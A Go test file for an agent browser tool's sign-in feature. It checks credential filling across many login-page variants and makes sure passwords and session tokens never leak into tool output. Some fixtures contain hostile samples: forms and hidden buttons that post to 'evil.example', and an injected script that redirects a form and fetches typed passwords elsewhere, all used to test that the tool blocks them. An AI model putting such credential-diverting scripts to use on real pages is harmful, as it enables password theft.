package browser_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"hotcell/internal/cell/browser"
	"hotcell/internal/line/cellrpc"
)

// accept is where a form is sent: it says in whom it believes.
func (w *world) accept(path, next string) {
	w.mux.HandleFunc("POST "+path, func(rw http.ResponseWriter, r *http.Request) {
		in := map[string]string{}
		body, _ := io.ReadAll(r.Body)
		if json.Unmarshal(body, &in) != nil {
			r.Body = io.NopCloser(strings.NewReader(string(body)))
			_ = r.ParseForm()
			for name := range r.PostForm {
				in[name] = r.PostForm.Get(name)
			}
		}
		password, code := w.takes(in["password"], in["code"])
		if in["password"] != "" && !password || in["code"] != "" && !code || in["user"] != "" && in["user"] != "ada" {
			rw.WriteHeader(http.StatusUnauthorized)
			_, _ = fmt.Fprintf(rw, "<p>Wrong user name or password")
			return
		}
		http.SetCookie(rw, &http.Cookie{Name: "sid", Value: "s3ss10n-c00k13-0123456789abcdef", Path: "/", HttpOnly: true})
		http.Redirect(rw, r, next, http.StatusSeeOther)
	})
}

const account = `<title>Account</title><h1>Welcome, Ada</h1><script>document.title = 'id ' + (document.cookie || 'none')</script>`

func TestSignsInByAForm(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.page("/account", account)
	w.accept("/session", "/account")
	page := w.page("/login", `<form method=post action=/session><label>User <input name=user></label><label>Password <input type=password name=password></label><button>Sign in</button></form>`)
	s := w.ok("browser_sign_in", "url", page)
	if !strings.Contains(s, "signed_in") || !strings.Contains(s, "Welcome, Ada") {
		t.Errorf("%s", s)
	}
	if len(w.sessions) == 0 {
		t.Error("its session is not told of")
	}
}

func TestSignsInByManyForms(t *testing.T) {
	t.Parallel()
	fetchJSON := `<script>
		async function go(user, password, code) {
			const r = await fetch('/session', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({user, password, code})})
			document.querySelector('#root').innerHTML = r.ok ? '<h1>Welcome, Ada</h1>' : '<p>Wrong user name or password</p>'
		}</script>`
	for name, c := range map[string]struct{ html, more string }{
		"script without a form":  {`<div id=root></div>` + fetchJSON + `<script>setTimeout(() => { root.innerHTML = '<input id=u placeholder=Email><input id=p type=password placeholder=Password><div class=btn id=b>Log in</div>'; b.onclick = () => go(u.value, p.value) }, 300)</script>`, ""},
		"two pages":              {`<form action=/second><input name=user autocomplete=username aria-label=Email><button>Next</button></form>`, ""},
		"one page, two steps":    {`<div id=root><form id=f><input id=u name=identifier aria-label="E-Mail"><button>Weiter</button></form></div>` + fetchJSON + `<script>f.onsubmit = e => { e.preventDefault(); const user = u.value; f.innerHTML = '<input type=password id=p aria-label=Passwort><button>Anmelden</button>'; f.onsubmit = e => { e.preventDefault(); go(user, p.value) } }</script>`, ""},
		"code on a second page":  {`<form method=post action=/first><input name=user aria-label=Benutzername><input type=password name=password><button>Anmelden</button></form>`, ""},
		"closed shadow root":     {`<div id=root><div id=host></div></div>` + fetchJSON + `<script>const s = host.attachShadow({mode: 'closed'}); s.innerHTML = '<form><input id=u autocomplete=username><input type=password id=p><button>Sign in</button></form>'; s.querySelector('form').onsubmit = e => { e.preventDefault(); go(s.querySelector('#u').value, s.querySelector('#p').value) }</script>`, ""},
		"frame of the same site": {`<iframe src=/inner style="width:400px;height:200px"></iframe>`, ""},
		"an overlay over all":    {`<div id=over style="position:fixed;inset:0;background:#fff8">We use cookies</div><form method=post action=/session><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`, ""},
		"japanese, no tokens":    {`<form method=post action=/session><label for=a>ログインID</label><input id=a name=user><label for=b>パスワード</label><input id=b name=password type=password><button>ログイン</button></form>`, ""},
		"a search field beside":  {`<form action=/search><input type=text name=q placeholder=Search></form><form method=post action=/session><input name=user aria-label=Email><input type=password name=password><button>Go</button></form>`, ""},
		"a hidden second field":  {`<form method=post action=/session><input name=user aria-label=User><input type=password name=password><input type=password name=copy style="display:none"><button>Sign in</button></form><script>document.querySelector('form').oninput = e => { if (e.target.name == 'password') document.querySelector('[name=copy]').value = e.target.value }</script>`, ""},
		"field turned to text":   {`<form method=post action=/session><input name=user aria-label=User><input type=password name=password id=p><button>Sign in</button></form><script>p.oninput = () => p.type = 'text'</script>`, ""},
		"no button, Enter only":  {`<form method=post action=/session><input name=user aria-label=User><input type=password name=password></form><script>document.onkeydown = e => { if (e.key == 'Enter') document.forms[0].submit() }</script>`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := open(t, nil)
			w.page("/account", account)
			w.accept("/session", "/account")
			w.accept("/first", "/code")
			w.page("/second", `<form method=post action=/session><p>ada</p><input type=password name=password aria-label=Password><button>Sign in</button></form>`)
			w.page("/code", `<form method=post action=/session><label>Bestätigungscode <input name=code inputmode=numeric maxlength=6></label><button>Bestätigen</button></form>`)
			w.page("/inner", `<form method=post action=/session><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`)
			s := w.ok("browser_sign_in", "url", w.page("/login", c.html))
			if !strings.Contains(s, "signed_in") || !strings.Contains(s, "Welcome, Ada") {
				t.Errorf("%s", s)
			}
		})
	}
}

func TestSixBoxes(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.page("/account", account)
	w.accept("/first", "/code")
	w.accept("/session", "/account")
	w.page("/code", `<form method=post action=/session id=f><input type=hidden name=code id=all><div id=d></div></form><script>
		for (let i = 0; i < 6; i++) { const b = document.createElement('input'); b.maxLength = 1; b.inputMode = 'numeric'; b.ariaLabel = 'Digit ' + (i + 1); d.append(b)
			b.oninput = () => { const n = b.nextElementSibling; if (n) n.focus(); all.value = [...d.children].map(x => x.value).join(''); if (all.value.length == 6) f.submit() } }</script>`)
	s := w.ok("browser_sign_in", "url", w.page("/login", `<form method=post action=/first><input name=user aria-label=Email><input type=password name=password><button>Log in</button></form>`))
	if !strings.Contains(s, "signed_in") {
		t.Error(s)
	}
}

func TestWhatIsSaidOfASignInThatFails(t *testing.T) {
	t.Parallel()
	plain := `<form method=post action=%s><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`
	for name, c := range map[string]struct{ html, want string }{
		"wrong":                         {fmt.Sprintf(plain, "/no"), "wrong_credentials"},
		"rate limited":                  {fmt.Sprintf(plain, "/many"), "rate_limited"},
		"captcha":                       {fmt.Sprintf(plain, "/robot"), "captcha"},
		"hashing":                       {fmt.Sprintf(plain, "/session") + `<script>document.forms[0].onsubmit = e => { const p = document.forms[0].password; p.value = [...p.value].reverse().join('') + '-hashed' }</script>`, "needs_fill"},
		"to another site":               {fmt.Sprintf(plain, "https://evil.example/session"), "another site"},
		"button to another site":        {`<form method=post action=/session><input name=user><input type=password name=password><button formaction="https://evil.example/">Sign in</button></form>`, "another site"},
		"a new password":                {`<form method=post action=/session><input name=user><input type=password name=a autocomplete=new-password><input type=password name=b><button>Sign up</button></form>`, "unknown_form"},
		"no form":                       {`<p>nothing here`, "unknown_form"},
		"sandboxed frame":               {`<iframe sandbox="allow-scripts allow-forms" src=/inner></iframe>`, "unknown_form"},
		"a document without an address": {`<iframe srcdoc="<form method=post action=/session><input name=user><input type=password name=password></form>"></iframe>`, "unknown_form"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := open(t, nil)
			w.page("/inner", fmt.Sprintf(plain, "/session"))
			w.accept("/session", "/account")
			for path, status := range map[string]int{"/no": 200, "/many": 429, "/robot": 200} {
				w.mux.HandleFunc("POST "+path, func(rw http.ResponseWriter, r *http.Request) {
					w.takes(r.FormValue("password"), "")
					w.mu.Lock()
					w.state.Status = status
					w.mu.Unlock()
					rw.Header().Set("Content-Type", "text/html")
					rw.WriteHeader(status)
					text := "Invalid user name or password."
					if path == "/robot" {
						text = "Please show that you are not a robot <div class=g-recaptcha>x</div>"
					}
					_, _ = fmt.Fprintf(rw, "<p>%s</p>"+plain, text, path)
				})
			}
			out := w.call("browser_sign_in", "url", w.page("/login", c.html))
			if !out.Error || !strings.Contains(out.Text, c.want) {
				t.Errorf("%s", out.Text)
			}
			if strings.Contains(out.Text, truePassword) {
				t.Error("the password is told")
			}
		})
	}
}

func TestFillModeLeavesNothing(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.logins[0].Fill = true
	w.mux.HandleFunc("POST /session", func(rw http.ResponseWriter, r *http.Request) {
		if r.FormValue("password") != strings.ToUpper(truePassword) {
			t.Errorf("the site got %q", r.FormValue("password"))
		}
		rw.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(rw, "<title>%s</title><h1>Welcome, Ada</h1><p>%s</p><script>console.log(%q)</script>", truePassword, truePassword, truePassword)
	})
	s := w.ok("browser_sign_in", "url", w.page("/login", `<form method=post action=/session><input name=user><input type=password name=password><button>Sign in</button></form>
		<script>document.forms[0].onsubmit = () => { document.forms[0].password.value = document.forms[0].password.value.toUpperCase() }</script>`))
	for _, tool := range []string{"browser_snapshot", "browser_console_messages", "browser_network_requests"} {
		s += w.ok(tool)
	}
	if strings.Contains(s, truePassword) || !strings.Contains(s, "signed_in") || !strings.Contains(s, "[hotcell:") {
		t.Error(s)
	}
}

func TestASessionIsACredential(t *testing.T) {
	t.Parallel()
	w := open(t, func(c *browser.Config) { c.Evaluate = true })
	w.page("/account", account+`<script>localStorage.token = 'eyJhbGciOiJIUzI1NiJ9.e30.abc123'; document.body.append(localStorage.token)</script>`)
	w.accept("/session", "/account")
	w.ok("browser_sign_in", "url", w.page("/login", `<form method=post action=/session><input name=user><input type=password name=password><button>Sign in</button></form>`))
	s := w.ok("browser_evaluate", "function", "() => localStorage.token + ' ' + btoa(localStorage.token)") + w.ok("browser_snapshot")
	if strings.Contains(s, "eyJhbGciOiJIUzI1NiJ9.e30") || strings.Contains(s, "ZXlKaGJHY2lPaUpJ") {
		t.Error(s)
	}
}

func TestALoginIsAskedForOrChosen(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	page := w.page("/login", `<form method=post action=/session><input name=user><input type=password name=password></form>`)
	w.logins = append(w.logins, cellrpc.Login{Use: "att_2", Username: "bob", Password: true})
	if out := w.call("browser_sign_in", "url", page); !out.Error || !strings.Contains(out.Text, "ada, bob") {
		t.Errorf("two: %s", out.Text)
	}
	if out := w.call("browser_sign_in", "url", page, "username", "eve"); !out.Error || !strings.Contains(out.Text, "ada, bob") {
		t.Errorf("one that is not there: %s", out.Text)
	}
	w.logins = nil
	if out := w.call("browser_sign_in", "url", page, "wait", false); !out.Error || w.asked != 0 {
		t.Errorf("none: %s, asked %d", out.Text, w.asked)
	}
	if out := w.call("browser_sign_in", "url", page); !out.Error || w.asked != 1 || !strings.Contains(out.Text, "refused") {
		t.Errorf("none, and refused: %s", out.Text)
	}
}

// sandboxed has the site send a page cut off from itself.
func (w *world) sandboxed(path, html string) string {
	w.mux.HandleFunc("GET "+path, func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		rw.Header().Set("Content-Security-Policy", "sandbox allow-scripts allow-forms")
		_, _ = io.WriteString(rw, html)
	})
	return w.server.URL + path
}

// TestADocumentThatIsCutOffFromItsSite: a site shows what others put there (uploads,
// mails) in a sandbox, under its own address.
func TestADocumentThatIsCutOffFromItsSite(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	inner := w.sandboxed("/upload", plainForm)
	for name, page := range map[string]string{"the page": inner, "a frame": w.page("/frame", `<iframe src="/upload"></iframe>`)} {
		if out := w.call("browser_sign_in", "url", page); !out.Error || !strings.Contains(out.Text, "unknown_form") || w.armed.Password != "" {
			t.Errorf("%s: %s", name, out.Text)
		}
	}
}

// TestAScriptDoesNotChooseWhereTheValueGoes: the page is opened anew.
func TestAScriptDoesNotChooseWhereTheValueGoes(t *testing.T) {
	t.Parallel()
	w := open(t, func(c *browser.Config) { c.Evaluate = true })
	w.accept("/session", "/account")
	w.page("/account", account)
	stolen := make(chan string, 10)
	w.mux.HandleFunc("POST /comments", func(_ http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		stolen <- r.FormValue("password")
	})
	w.ok("browser_navigate", "url", w.page("/login", plainForm))
	w.ok("browser_evaluate", "function", `() => { document.forms[0].action = '/comments'; document.addEventListener('input', e => fetch('/comments', {method: 'post', body: new URLSearchParams({password: e.target.value})})) }`)
	s := w.ok("browser_sign_in")
	if !strings.Contains(s, "signed_in") || len(stolen) > 0 {
		t.Errorf("%s, and %d went elsewhere", s, len(stolen))
	}
}

// TestEnterIsAnotherButtons: pressing it is as pressing the form's first button.
func TestEnterIsAnotherButtons(t *testing.T) {
	t.Parallel()
	form := `<form method=post action=/session><button formaction="https://evil.example/" style="display:none">x</button><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`
	for _, fill := range []bool{false, true} {
		w := open(t, nil)
		w.logins[0].Fill = fill
		w.accept("/session", "/account")
		w.page("/account", account)
		out := w.call("browser_sign_in", "url", w.page("/login", form))
		list := w.ok("browser_network_requests")
		if out.Error != fill || strings.Contains(list, "evil.example") {
			t.Errorf("fill %v: %s\n%s", fill, out.Text, list)
		}
	}
}

// TestWhatWasArmedEndsWithTheCall: also where nobody waits for it any more.
func TestWhatWasArmedEndsWithTheCall(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.ok("browser_navigate", "url", w.page("/login", plainForm+`<script>document.forms[0].onsubmit = () => false</script>`))
	ctx, cancel := context.WithCancel(t.Context())
	w.onArm = cancel
	if out := w.driver.Call(ctx, cellrpc.Call{Tool: "browser_sign_in"}); !out.Error {
		t.Error(out.Text)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if !w.state.Gone {
		t.Error("it is still armed")
	}
}
